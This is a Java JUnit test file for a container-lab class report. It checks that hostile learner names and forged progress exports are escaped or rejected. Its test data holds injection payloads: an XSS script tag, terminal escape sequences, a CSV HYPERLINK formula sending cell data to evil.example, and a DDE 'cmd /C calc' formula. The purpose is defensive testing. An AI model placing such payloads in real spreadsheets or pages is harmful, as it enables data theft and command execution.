package io.containercodes.lab.progress;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.containercodes.lab.lesson.Episode;
import io.containercodes.lab.lesson.LessonPack;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.commonmark.ext.gfm.tables.TableBlock;
import org.commonmark.ext.gfm.tables.TableCell;
import org.commonmark.ext.gfm.tables.TableRow;
import org.commonmark.ext.gfm.tables.TablesExtension;
import org.commonmark.node.Node;
import org.commonmark.node.Text;
import org.commonmark.parser.Parser;
import org.commonmark.renderer.html.HtmlRenderer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Issue 12.12: hostile names and forged exports against the class report. */
class ClassReportTest {
  private static final Episode EPISODE =
      new LessonPack(Path.of("").toAbsolutePath()).episode(LessonPack.DEFAULT_EPISODE);
  private static final List<String> HOSTILE =
      List.of(
          "Eve\n| 99 | ✓ | ✓ |",
          "Mallory | ✓ | ✓",
          "<script>alert(1)</script><img src=x onerror=alert(2)>",
          "**Bold** [click](http://evil.example) `code` _i_ &amp; ![i](x.png)",
          "Title\u001b]0;pwned\u0007\u001b[2J",
          "back\\slash\\|pipe");

  @TempDir Path dir;

  private static ObjectNode export(String name, String... passedDemos) {
    Progress p = new Progress();
    p.visit("welcome");
    for (String d : passedDemos) {
      p.recordRun(d, true, "ok");
    }
    return ProgressExport.of(name, EPISODE, p);
  }

  private void write(String file, Object json) throws Exception {
    Files.writeString(
        dir.resolve(file),
        json instanceof String s ? s : new ObjectMapper().writeValueAsString(json));
  }

  private ClassReport.Result read() throws Exception {
    return new ClassReport(EPISODE).read(dir);
  }

  @Test
  void hostileNamesStayOneCellOfOneRowAndNeverBecomeMarkupOrTerminalCodes() throws Exception {
    for (int i = 0; i < HOSTILE.size(); i++) {
      write("l" + i + ".json", export(HOSTILE.get(i)));
    }
    String md = ClassReport.markdown(read());
    assertFalse(
        md.contains("\u001b") || md.contains("\u0007"),
        "no raw control character reaches the terminal");

    Parser parser = Parser.builder().extensions(List.of(TablesExtension.create())).build();
    Node doc = parser.parse(md);
    TableBlock table = (TableBlock) doc.getFirstChild();
    List<TableRow> rows = new java.util.ArrayList<>();
    collectRows(table, rows);
    assertEquals(1 + HOSTILE.size(), rows.size(), "a header and one row per learner:\n" + md);
    int columns = 1 + EPISODE.lessons().size() + 2;
    for (int i = 0; i < HOSTILE.size(); i++) {
      TableRow row = rows.get(i + 1);
      int cells = 0;
      for (Node c = row.getFirstChild(); c != null; c = c.getNext()) {
        cells++;
      }
      assertEquals(columns, cells, "row of " + HOSTILE.get(i) + ":\n" + md);
      String cell = plainText((TableCell) row.getFirstChild());
      String expected = io.containercodes.lab.render.SafeText.escapeLine(HOSTILE.get(i));
      assertEquals(expected, cell, "the name reads as itself");
    }
    String html =
        HtmlRenderer.builder().extensions(List.of(TablesExtension.create())).build().render(doc);
    for (String markup : List.of("<script", "<img", "<strong", "<a ", "<code", "<em")) {
      assertFalse(html.contains(markup), markup + " in\n" + html);
    }
    assertTrue(html.contains("&lt;script&gt;"), html);
    assertTrue(
        html.contains("&amp;amp;"), "an entity in a name is shown as typed, not decoded: " + html);
  }

  /**
   * The cell's text; any node but plain text (emphasis, link, code, HTML) would mean the name
   * became markup.
   */
  private static String plainText(Node cell) {
    StringBuilder sb = new StringBuilder();
    for (Node c = cell.getFirstChild(); c != null; c = c.getNext()) {
      assertTrue(c instanceof Text, "only text in a name's cell, not " + c);
      sb.append(((Text) c).getLiteral());
    }
    return sb.toString();
  }

  private static void collectRows(Node n, List<TableRow> rows) {
    for (Node c = n.getFirstChild(); c != null; c = c.getNext()) {
      if (c instanceof TableRow r) {
        rows.add(r);
      } else {
        collectRows(c, rows);
      }
    }
  }

  @Test
  void csvCellsAreQuotedAndFormulasNeutralised() throws Exception {
    write("a.json", export("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"));
    write("b.json", export("+1+cmd|' /C calc'!A0"));
    write("c.json", export("-2"));
    write("d.json", export("@SUM(A1:A9)"));
    write("e.json", export("\tTab"));
    write("f.json", export("Lovelace, Ada \"Countess\""));
    write("g.json", export("\uff1d1+1"));
    String csv = ClassReport.csv(read());
    List<String> names =
        csv.lines().skip(1).map(l -> l.substring(0, l.indexOf("\",") + 1)).toList();
    assertEquals(
        List.of(
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"",
            "\"'+1+cmd|' /C calc'!A0\"",
            "\"'-2\"",
            "\"'@SUM(A1:A9)\"",
            "\"'\tTab\"",
            "\"Lovelace, Ada \"\"Countess\"\"\"",
            "\"'\uff1d1+1\""),
        names);
    assertTrue(csv.startsWith("learner,\"01-welcome\","), csv);
  }

  @Test
  void exportsThatDoNotFitTheEpisodeAreSkippedWithOneReasonNamingTheFile() throws Exception {
    write("good.json", export("Ada", "memory-limit"));
    ObjectNode otherEpisode = export("Bob");
    otherEpisode.put("episode", "001-something-else");
    write("other-episode.json", otherEpisode);
    ObjectNode unknownDemo = export("Carol", "memory-limit");
    unknownDemo.with("demos").set("rm-rf", unknownDemo.with("demos").get("memory-limit"));
    write("unknown-demo.json", unknownDemo);
    // a valid export one byte over the size limit: its size is enough to skip it, unread
    String dave = new ObjectMapper().writeValueAsString(export("Dave"));
    write("absurd.json", dave + " ".repeat((int) ClassReport.MAX_FILE_BYTES + 1 - dave.length()));
    ObjectNode tooMany = export("Dan");
    ObjectNode forty = tooMany.putObject("demos");
    for (int i = 0; i < 40; i++) {
      forty.putObject("d" + i).put("status", "passed").put("attempts", 1);
    }
    write("too-many.json", tooMany);
    ObjectNode wrongVersion = export("Erin");
    wrongVersion.put("version", 2);
    write("version.json", wrongVersion);
    ObjectNode unknownLesson = export("Frank");
    ((ObjectNode) unknownLesson.withArray("lessons").get(0)).put("id", "hack-the-planet");
    write("unknown-lesson.json", unknownLesson);
    ObjectNode doneWithoutDemos = export("Grace");
    for (var l : doneWithoutDemos.withArray("lessons")) {
      ((ObjectNode) l).put("status", "done");
    }
    write("claims-done.json", doneWithoutDemos);
    ObjectNode negative = export("Heidi", "fork-bomb");
    ((ObjectNode) negative.with("demos").get("fork-bomb")).put("attempts", -5);
    write("negative.json", negative);
    ObjectNode hugeCount = export("Ivan", "fork-bomb");
    ((ObjectNode) hugeCount.with("demos").get("fork-bomb")).put("attempts", 1e12);
    write("huge-count.json", hugeCount);
    ObjectNode noName = export("x");
    noName.remove("learner");
    write("no-name.json", noName);
    write("not-export.json", "{\"format\": \"something\"}");
    write("esc\u001b[2J.json", "[]");

    ClassReport.Result r = read();
    assertEquals(
        List.of("Ada"),
        r.rows().stream().map(ClassReport.Row::learner).toList(),
        String.join("\n", r.skipped()));
    assertEquals(1, r.rows().get(0).demosPassed());
    assertEquals(13, r.files());
    assertEquals(12, r.skipped().size(), String.join("\n", r.skipped()));
    String all = String.join("\n", r.skipped());
    for (String expected :
        List.of(
            "other-episode.json: it is for episode \"001-something-else\", not"
                + " 000-container-defense",
            "unknown-demo.json: unknown demo \"rm-rf\"",
            "absurd.json: not an export (" + (ClassReport.MAX_FILE_BYTES + 1) + " bytes)",
            "too-many.json: it lists 40 demos; 000-container-defense has",
            "version.json: export format version 2; this cclab reads version 1",
            "unknown-lesson.json: unknown lesson \"hack-the-planet\"",
            "claims-done.json: lesson ",
            "negative.json: demo fork-bomb has -5 attempts",
            "huge-count.json: demo fork-bomb has 1.0E12 attempts",
            "no-name.json: it has no learner name",
            "not-export.json: not a cclab progress export",
            "esc\\e[2J.json: not a cclab progress export")) {
      assertTrue(all.contains(expected), expected + " in\n" + all);
    }
    r.skipped().forEach(s -> assertFalse(s.contains("\n") || s.contains("\u001b"), s));
  }
}
